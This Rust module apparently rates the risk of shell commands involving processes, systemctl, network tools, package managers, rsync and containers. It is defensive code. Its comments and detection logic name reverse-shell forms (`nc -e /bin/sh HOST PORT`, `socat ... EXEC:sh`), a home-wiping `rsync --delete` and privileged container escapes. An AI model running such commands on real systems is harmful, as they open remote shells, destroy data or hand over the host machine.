//! Processes, services, the network and package managers.

use super::{Input, Verdict};
use crate::Risk;
use crate::Sentence as S;
use crate::paths::FileOp;
use crate::shell::options::{self, Does};
use crate::shell::words::Word;

pub(super) fn kill(input: &Input<'_>) -> Verdict {
    if input.args.len() >= 2 && input.args.last().is_some_and(|a| a.text == "-1") {
        return Verdict::new(Risk::Critical, S::new("engine-kill-all"));
    }
    Verdict::new(
        Risk::High,
        S::new("engine-kill").text("program", input.program),
    )
}

pub(super) fn systemctl(input: &Input<'_>) -> Verdict {
    let verb = input
        .args
        .iter()
        .find(|a| !a.text.starts_with('-'))
        .map(|a| a.text.as_str());
    match verb {
        Some("poweroff" | "reboot" | "halt" | "kexec" | "emergency" | "rescue" | "soft-reboot") => {
            Verdict::new(Risk::Critical, S::new("engine-systemctl-power"))
        }
        Some(
            "status" | "list-units" | "list-unit-files" | "is-active" | "is-enabled" | "show"
            | "cat",
        )
        | None => Verdict::new(Risk::Low, S::new("engine-systemctl-read")),
        Some(other) => Verdict::new(
            Risk::High,
            S::new("engine-systemctl-change").text("verb", other),
        ),
    }
}

pub(super) fn network(input: &Input<'_>) -> Verdict {
    let p = input.program;
    let mut v = Verdict::new(Risk::High, S::new("engine-network").text("program", p));
    let args = input.args;
    // `nc -e /bin/sh HOST PORT`, `socat TCP:HOST:PORT EXEC:sh`: a program whose input
    // and output are the connection runs whatever the other end sends. nc's options
    // are the option table's (every spelling: `-e`, `-e/bin/sh`, `-lvpe`,
    // `--sh-exec=`); socat's addresses are [`SOCAT_PROGRAM_ADDRESSES`].
    let connects_a_program = match p {
        "nc" | "ncat" | "netcat" => options::parse(p, args)
            .is_some_and(|o| o.has(Does::RunsScript) || o.has(Does::RunsProgram)),
        "socat" => args.iter().any(|a| socat_runs_a_program(&a.text)),
        _ => false,
    };
    if connects_a_program {
        v.raise(
            Risk::Critical,
            S::new("engine-network-exec").text("program", p),
        );
    }
    if matches!(p, "rsync" | "scp") {
        copy_destination(&mut v, input);
    }
    // Files written or read through options (`curl -fsSLo F`, `wget -qO F`, logs and
    // cookie jars) are judged from the option table (`options.rs`); the files a
    // download writes without naming them (`curl -O`, `wget URL`, into `--output-dir`
    // or `-P`) are the download judge's, which reads the options through that table.
    super::download::writes(&mut v, input);
    v
}

/// socat's address types that run a program with the connection as its input and
/// output (names are case-insensitive).
const SOCAT_PROGRAM_ADDRESSES: &[&str] = &["EXEC", "SYSTEM", "SHELL"];

/// Whether a socat address runs a program: one of [`SOCAT_PROGRAM_ADDRESSES`], alone
/// or as either half of a dual address (`READ!!WRITE`, `A%B`).
fn socat_runs_a_program(address: &str) -> bool {
    address.split("!!").flat_map(|a| a.split('%')).any(|half| {
        let kind = half.split([':', ',']).next().unwrap_or("");
        SOCAT_PROGRAM_ADDRESSES
            .iter()
            .any(|k| k.eq_ignore_ascii_case(kind.trim()))
    })
}

/// Package managers and language tool chains: installs and publishing are High
/// (they run code from the network), everything else Medium (build and test).
pub(super) fn package_tool(input: &Input<'_>) -> Verdict {
    let mut v = package_tool_command(input);
    if let Some(flag) = names_a_host(input) {
        v.raise(
            Risk::High,
            S::new("engine-package-host")
                .text("program", input.program)
                .text("flag", flag),
        );
    }
    v
}

/// Options of package tools that name the host they contact (`--registry`,
/// `--index-url`, `--extra-index-url`, `-i`, `--find-links`, `--source`, ...): even a
/// reading subcommand (`npm view`, `cargo search`) then talks to a host the command
/// picks.
fn names_a_host(input: &Input<'_>) -> Option<String> {
    const HOST_OPTIONS: &[&str] = &[
        "--registry",
        "--index",
        "--index-url",
        "--extra-index-url",
        "--default-index",
        "--find-links",
        "--source",
        "--proxy",
        "--trusted-host",
        "--repository",
        "--repository-url",
        "--url",
    ];
    input.args.iter().enumerate().find_map(|(i, a)| {
        let name = a.text.split_once('=').map_or(a.text.as_str(), |(n, _)| n);
        let short = matches!(input.program, "pip" | "pip3" | "uv")
            && matches!(a.text.as_str(), "-i" | "-f")
            && input.args.get(i + 1).is_some();
        (HOST_OPTIONS.contains(&name) || short).then(|| name.to_owned())
    })
}

fn package_tool_command(input: &Input<'_>) -> Verdict {
    let p = input.program;
    if let Some(v) = package_script(input) {
        return v;
    }
    let sub = input
        .args
        .iter()
        .find(|a| !a.text.starts_with('-'))
        .map(|a| a.text.as_str())
        .unwrap_or("");
    if matches!(p, "npx" | "pnpx" | "bunx") {
        return Verdict::new(
            Risk::High,
            S::new("engine-package-runner").text("program", p),
        );
    }
    if matches!(p, "brew" | "apt" | "apt-get" | "dnf" | "yum" | "pacman") {
        return match sub {
            "list" | "search" | "info" | "show" | "policy" => Verdict::new(
                Risk::Low,
                S::new("engine-tool-reads")
                    .text("program", p)
                    .text("sub", sub),
            ),
            _ => Verdict::new(
                Risk::High,
                S::new("engine-package-install")
                    .text("program", p)
                    .text("sub", sub),
            ),
        };
    }
    let high = reaches_outside(p, sub);
    if high {
        return Verdict::new(
            Risk::High,
            S::new("engine-tool-outside-code")
                .text("program", p)
                .text("sub", sub),
        );
    }
    let low = only_reads(input, sub);
    if low {
        return Verdict::new(
            Risk::Low,
            S::new("engine-tool-reads")
                .text("program", p)
                .text("sub", sub),
        );
    }
    Verdict::new(
        Risk::Medium,
        S::new("engine-build-tool")
            .text("program", p)
            .text("sub", sub),
    )
}

/// `npm pkg set scripts.test=CMD` (and `npm set-script test CMD`) writes a script
/// that `npm test` runs later in the same line: CMD is judged now.
fn package_script(input: &Input<'_>) -> Option<Verdict> {
    let p = input.program;
    if !matches!(p, "npm" | "pnpm" | "yarn" | "bun") {
        return None;
    }
    let texts: Vec<&str> = input.args.iter().map(|a| a.text.as_str()).collect();
    let mut scripts = Vec::new();
    let mut unknown = false;
    if texts.starts_with(&["pkg", "set"]) {
        for a in &input.args[2..] {
            if let Some(value) = a
                .text
                .strip_prefix("scripts.")
                .and_then(|r| r.split_once('='))
                .map(|(_, v)| v)
            {
                if a.dynamic {
                    unknown = true;
                } else {
                    scripts.push(value.to_string());
                }
            }
        }
    } else if texts.first() == Some(&"set-script") {
        match input.args.get(2) {
            Some(cmd) if !cmd.dynamic => scripts.push(cmd.text.clone()),
            Some(_) => unknown = true,
            None => {}
        }
    }
    if unknown || !scripts.is_empty() {
        let mut v = Verdict::new(
            Risk::Medium,
            S::new("engine-package-script").text("program", p),
        );
        v.opaque = unknown;
        v.scripts = scripts;
        return Some(v);
    }
    None
}

/// Whether the subcommand reaches outside the project: it installs, fetches, runs or
/// publishes code. High.
fn reaches_outside(p: &str, sub: &str) -> bool {
    match p {
        "cargo" => matches!(
            sub,
            "install" | "publish" | "login" | "owner" | "yank" | "uninstall"
        ),
        "npm" | "pnpm" | "bun" => matches!(
            sub,
            "install"
                | "i"
                | "ci"
                | "add"
                | "update"
                | "upgrade"
                | "up"
                | "publish"
                | "exec"
                | "dlx"
                | "x"
                | "create"
                | "init"
                | "link"
                | "uninstall"
                | "remove"
                | "rm"
                | "login"
                | "adduser"
        ),
        "yarn" => matches!(
            sub,
            "" | "install"
                | "add"
                | "upgrade"
                | "up"
                | "publish"
                | "dlx"
                | "create"
                | "remove"
                | "link"
        ),
        "go" => matches!(sub, "install" | "get" | "generate"),
        // `uv run` runs a script or a tool, fetching what it names (`--with`).
        "uv" if sub == "run" => true,
        "pip" | "pip3" | "uv" | "poetry" | "pipenv" | "gem" | "bundle" | "composer" => matches!(
            sub,
            "install"
                | "add"
                | "sync"
                | "update"
                | "upgrade"
                | "uninstall"
                | "remove"
                | "publish"
                | "push"
                | "require"
                | "pip"
                | "tool"
                | "lock"
        ),
        "rustup" => !matches!(sub, "show" | "which" | "--version" | "doc"),
        "deno" => matches!(sub, "run" | "install" | "compile" | "eval" | "repl" | ""),
        _ => false,
    }
}

/// Whether the subcommand only reads or prints what the tool knows. Low.
fn only_reads(input: &Input<'_>, sub: &str) -> bool {
    let p = input.program;
    let only = |flags: &[&str]| {
        !input.args.is_empty()
            && input
                .args
                .iter()
                .all(|a| !a.dynamic && flags.contains(&a.text.as_str()))
    };
    match p {
        "pip" | "pip3" => matches!(sub, "list" | "show" | "freeze" | "check"),
        // `cargo --list` prints its subcommands; `-vV` its version.
        "cargo" if only(&["--list", "-V", "-v", "-vV", "--version", "--verbose"]) => true,
        "cargo" => matches!(
            sub,
            "tree" | "metadata" | "search" | "version" | "--version" | "-V"
        ),
        "rustup" => {
            matches!(sub, "show" | "which" | "--version")
                && input.args.iter().all(|a| {
                    !a.dynamic && !a.text.starts_with("--toolchain") && !a.text.starts_with('+')
                })
        }
        // `npm config get KEY` prints a setting; the registry's credentials are
        // secrets, so a key that names one is not here.
        "npm" | "pnpm" | "yarn"
            if sub == "config"
                && input.args.get(1).is_some_and(|a| a.text == "get")
                && input.args.iter().skip(2).all(|a| {
                    let t = a.text.to_ascii_lowercase();
                    !a.dynamic
                        && !["auth", "token", "pass", "cert", "key", "_", "//"]
                            .iter()
                            .any(|s| t.contains(s))
                }) =>
        {
            true
        }
        "go" => matches!(sub, "version" | "env" | "list"),
        "npm" | "pnpm" | "yarn" => matches!(
            sub,
            "ls" | "list" | "outdated" | "view" | "--version" | "-v"
        ),
        _ => false,
    }
}

/// `rsync SRC... DEST` / `scp SRC... DEST` with a local destination writes it; with
/// `--delete` rsync also deletes what the source lacks, so a precious destination
/// (`rsync -a --delete empty/ ~/`) is Critical.
fn copy_destination(v: &mut Verdict, input: &Input<'_>) {
    let operands: Vec<&Word> = input
        .args
        .iter()
        .filter(|a| a.dynamic || !a.text.starts_with('-'))
        .collect();
    let Some(dest) = operands.last().filter(|_| operands.len() >= 2) else {
        return;
    };
    // `host:path` and `rsync://` destinations are remote.
    if !dest.dynamic && (dest.text.contains(':') && !dest.text.starts_with('/')) {
        return;
    }
    let deletes = input.args.iter().any(|a| a.text.starts_with("--delete"));
    if deletes {
        let precious = dest.dynamic
            || crate::paths::is_precious(&input.resolve(&dest.text), input.ctx)
            || !input.resolve(&dest.text).inside_workspace;
        if precious {
            v.raise(
                Risk::Critical,
                S::new("engine-sync-delete")
                    .text("program", input.program)
                    .text("path", dest.text.as_str()),
            );
        }
    }
    v.word(FileOp::Write, dest, input);
}

/// `docker`/`podman`: `run`, `create` and `exec` with `--privileged`, the host's
/// namespaces, or a folder of the host mounted that is the root, the home or
/// anything precious give the container the machine: Critical. Any other use is
/// High (it runs an image's code), as an unknown program is.
pub(super) fn container(input: &Input<'_>) -> Verdict {
    let p = input.program;
    let mut v = Verdict::new(Risk::High, S::new("engine-container").text("program", p));
    let texts: Vec<&str> = input.args.iter().map(|a| a.text.as_str()).collect();
    for (i, t) in texts.iter().enumerate() {
        let value = |name: &str| -> Option<&str> {
            if *t == name {
                texts.get(i + 1).copied()
            } else {
                t.strip_prefix(name).and_then(|r| r.strip_prefix('='))
            }
        };
        if *t == "--privileged"
            || [
                "--pid",
                "--net",
                "--network",
                "--ipc",
                "--uts",
                "--userns",
                "--cgroupns",
            ]
            .iter()
            .any(|n| value(n) == Some("host"))
            || value("--cap-add").is_some_and(|c| {
                c.eq_ignore_ascii_case("ALL") || c.to_ascii_uppercase().contains("SYS_ADMIN")
            })
            || value("--device").is_some()
        {
            v.raise(
                Risk::Critical,
                S::new("engine-container-host")
                    .text("program", p)
                    .text("option", *t),
            );
        }
        let host = value("-v")
            .or_else(|| value("--volume"))
            .map(|m| m.split(':').next().unwrap_or(""))
            .or_else(|| {
                value("--mount").and_then(|m| {
                    m.split(',').find_map(|kv| {
                        kv.strip_prefix("source=")
                            .or_else(|| kv.strip_prefix("src="))
                    })
                })
            });
        if let Some(host) = host {
            let dynamic = input.args.get(i).is_some_and(|a| a.dynamic)
                || input.args.get(i + 1).is_some_and(|a| a.dynamic);
            let path = input.resolve(host);
            let precious = crate::paths::is_precious(&path, input.ctx);
            if dynamic || precious || host == "/" || path.sensitive.is_some() {
                v.raise(
                    Risk::Critical,
                    S::new("engine-container-mount")
                        .text("program", p)
                        .text("path", host),
                );
            } else if host.starts_with('/') || host.starts_with('~') || host.starts_with('.') {
                v.word(FileOp::Write, &Word::literal(host), input);
            }
        }
    }
    v
}
